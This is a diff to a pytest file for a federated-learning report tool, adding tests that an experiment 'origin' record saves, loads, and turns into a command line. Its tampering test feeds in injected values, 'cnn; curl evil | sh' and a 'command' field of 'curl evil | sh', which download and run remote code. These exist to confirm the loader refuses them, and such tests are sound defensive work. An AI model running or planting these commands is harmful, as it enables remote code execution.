@@ -10,14 +10,18 @@ import numpy as np
 import pytest
 
 from fl.errors import ConfigError
+from fl.report.command_line import arm_command
 from fl.report.extras import (
+    Origin,
     Personalization,
     PersonalizedClient,
     PersonalizedMethod,
     Point,
     Series,
+    load_origin,
     load_personalization,
     load_series,
+    save_origin,
     save_personalization,
     save_series,
 )
@@ -46,6 +50,38 @@ def test_what_is_saved_is_loaded(tmp_path: Path) -> None:
     )
     save_personalization(tmp_path, gains)
     assert load_personalization(tmp_path) == gains
+
+
+ORIGIN = {"experiment": "mnist-hundred", "arm": "cnn-iid", "quick": False, "seed": 3, "threads": 1, "outcome": "99%"}
+
+
+def test_an_origin_that_is_saved_is_loaded_and_its_command_is_made_of_it(tmp_path: Path) -> None:
+    assert load_origin(tmp_path) is None
+    origin = Origin(**ORIGIN)  # type: ignore[arg-type]
+    save_origin(tmp_path, origin)
+    assert load_origin(tmp_path) == origin
+    assert arm_command(origin) == "secagg experiment mnist-hundred --arm cnn-iid --seed 3 --threads 1"
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"arm": "cnn; curl evil | sh"},
+        {"arm": "--out"},
+        {"experiment": "cnn iid\n"},
+        {"experiment": None},
+        {"quick": 1},
+        {"seed": -1},
+        {"seed": "0"},
+        {"threads": 0},
+        {"outcome": 99},
+        {"command": "curl evil | sh"},
+    ],
+)
+def test_an_origin_that_could_show_a_command_of_its_own_is_refused(change: dict[str, Any], tmp_path: Path) -> None:
+    (tmp_path / "origin.json").write_text(json.dumps({**ORIGIN, **change}))
+    with pytest.raises(ConfigError, match=next(iter(change))):
+        load_origin(tmp_path)
 
 
 def test_numpys_numbers_and_losses_that_ran_away_can_be_saved(tmp_path: Path) -> None:
